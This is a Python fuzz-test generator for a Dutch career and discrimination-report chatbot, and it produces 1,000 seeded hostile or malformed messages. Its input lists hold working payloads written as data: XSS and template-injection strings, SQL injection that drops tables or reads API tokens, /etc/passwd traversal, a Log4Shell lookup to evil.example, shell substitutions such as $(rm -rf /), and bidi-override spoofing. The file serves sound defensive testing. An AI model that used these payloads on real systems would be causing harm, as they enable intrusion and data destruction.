"""Generated hostile and odd chat messages for the fuzz test (seeded: the same 1,000 every run)."""
from __future__ import annotations

import json
import random
from typing import Callable, List

INTENTS = [
    "greet", "goodbye", "affirm", "deny", "stop", "resume", "request_human", "seek_internship",
    "report_discrimination", "withdraw_report", "report_status", "share_summary", "delete_my_data",
    "ask_study_advice", "compare_programmes", "start_quiz", "inform", "unknown_intent", "nlu_fallback",
]
SLOTS = ["crebo", "place", "postcode", "report_code", "report_confirm", "report_route", "sender", "x", ""]
DUTCH = [
    "hoi", "ik zoek een stage", "welke opleiding past bij mij", "ze wilden me niet vanwege mijn hoofddoek",
    "ik wil met een echt mens praten", "verwijder mijn gegevens", "wat is de status van mijn melding",
    "kok in utrecht", "mbo niveau 2", "weet ik niet", "stop", "ja", "nee", "25180", "3511 AB", "25 km",
    "trek mijn melding in", "ben jij een bot?", "opslaan", "alleen registreren",
]
EMOJI = ["😂", "🔥", "👍🏽", "🇳🇱", "👨‍👩‍👧‍👦", "❤️", "🤖", "🙈", "💩", "✨", "\u200d", "\ufe0f"]
HTML = [
    "<script>alert('x')</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">klik</a>", "</textarea><script>fetch('/portaal')</script>",
    "<iframe src=//evil.example>", "<b>vet</b> <i>schuin</i>", "{{7*7}} ${7*7} <%= 7*7 %>",
    "<!--", "]]>", "&lt;script&gt;", "<style>*{display:none}</style>",
]
RTL = [
    "مرحبا، أبحث عن تدريب", "שלום, אני מחפש התמחות", "سلام من دنبال کارآموزی هستم",
    "\u202eevil\u202c", "\u202dabc\u202c", "\u2066isolated\u2069", "\u200fmark\u200e", "abc\u202edcba",
    "\u2067\u202e/greet\u202c\u2069",
]
CONTROL = ["\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1b[31m", "\x7f", "\r\n", "\t", "\u0085",
           "\u2028", "\u2029", "\ufeff", "\ufffd", "\ud800", "\udfff", "\U0010ffff"]
SQL = [
    "'; DROP TABLE reports; --", "\" OR 1=1 --", "1; SELECT * FROM api_tokens", "' UNION SELECT code FROM reports --",
    "BEGIN IMMEDIATE", "%' OR '%'='", "../../etc/passwd", "${jndi:ldap://evil.example/a}", "$(rm -rf /)",
    "`id`", "%s%s%s%n", "\\x00\\u0000", "null", "undefined", "NaN", "true", "[]", "{}",
]
NUMBERS = ["1e999", "-1e999", "9" * 400, "1" * 30 + " km", "-0", "0x7fffffffffffffff", "99999", "00000",
           "3.4028235e38", "NaN km", "Infinity", "١٢٣٤٥", "２５１８０", "25180" * 200]
MALFORMED = [
    "/greet{", '/report_discrimination{"x":', "/unknown_intent", '/inform{"crebo": 1e999}',
    "/", "//", "/{}", "/ greet", "/greet}", "/greet{}}", "/greet{{", '/greet{"a": [1, 2', "/greet[]",
    '/inform{"crebo": NaN}', '/inform{"crebo": Infinity}', '/inform{"crebo": null}', '/inform{"crebo": []}',
    '/inform{"crebo": {"$gt": ""}}', '/affirm{"report_confirm": "save"}', '/deny{"report_route": 12}',
    "/request_human" + "{" * 100, "/" + "a" * 300, "/greet@0.5", "/greet@9999", "/greet@-1", "/greet@NaN",
    '/seek_internship{"crebo": "' + "1" * 500 + '"}', '/report_status{"report_code": "\\u0000"}',
    '/greet{"\\ud800": 1}', "/__proto__", "/action_submit_report", "/utter_greet", "/EXTERNAL_reminder",
    "/session_start", "/restart", "/action_restart", "/nlu_fallback", "/out_of_scope{\"x\": true}",
]


def _words(rng: random.Random, n: int) -> str:
    return " ".join(rng.choice(DUTCH) for _ in range(n))


def _long(rng: random.Random) -> str:
    kind = rng.randrange(4)
    if kind == 0:
        return rng.choice("ab€😂 ") * 10_000
    if kind == 1:
        return (_words(rng, 2000))[:10_000].ljust(10_000, ".")
    if kind == 2:
        return "".join(chr(rng.randrange(0x20, 0x3000)) for _ in range(10_000))
    return ("<script>" + "A" * 9_000 + "</script>" + "/greet{" * 100)[:10_000]


def _payload(rng: random.Random) -> str:
    intent = rng.choice(INTENTS)
    slots = {rng.choice(SLOTS): rng.choice([1e300, -1, None, True, "x" * rng.randrange(500), [1], {"a": 1},
                                            rng.choice(SQL), rng.choice(HTML)])
             for _ in range(rng.randrange(1, 4))}
    text = f"/{intent}{json.dumps(slots)}"
    # Cut it short (malformed) half of the time.
    return text[: rng.randrange(len(intent) + 1, len(text) + 1)] if rng.random() < 0.5 else text


def _mixed(rng: random.Random) -> str:
    parts = [rng.choice(DUTCH)]
    for _ in range(rng.randrange(1, 5)):
        parts.append(rng.choice(EMOJI + HTML + RTL + CONTROL + SQL + NUMBERS + DUTCH))
    rng.shuffle(parts)
    return rng.choice(["", " ", "\n"]).join(parts)


GENERATORS: List[Callable[[random.Random], str]] = [
    _long,
    lambda rng: "".join(rng.choice(EMOJI) for _ in range(rng.randrange(1, 40))),
    lambda rng: rng.choice(HTML) + rng.choice(["", " " + rng.choice(DUTCH)]),
    lambda rng: rng.choice(RTL) + rng.choice(["", " " + rng.choice(DUTCH)]),
    lambda rng: "".join(rng.choice(CONTROL) for _ in range(rng.randrange(1, 20))) + rng.choice(["", "hoi"]),
    lambda rng: rng.choice(MALFORMED),
    _payload,
    _mixed,
    lambda rng: rng.choice(SQL),
    lambda rng: rng.choice(NUMBERS),
    lambda rng: rng.choice(["", " ", "\n\n\n", "\u00a0", "\u3000" * 50, "." * 999, "?" * 1001]),
]


def generate(count: int = 1000, seed: int = 14) -> List[str]:
    rng = random.Random(seed)
    messages = [rng.choice(GENERATORS)(rng) for _ in range(count)]
    # Always include the cases named in the issue, whatever the seed picks.
    named = ["/greet{", '/report_discrimination{"x":', "/unknown_intent", '/inform{"crebo": 1e999}',
             "a" * 10_000, "\x00", "<script>alert('x')</script>", "\u202eevil\u202c", "😂😂😂🔥"]
    messages[: len(named)] = named
    return messages
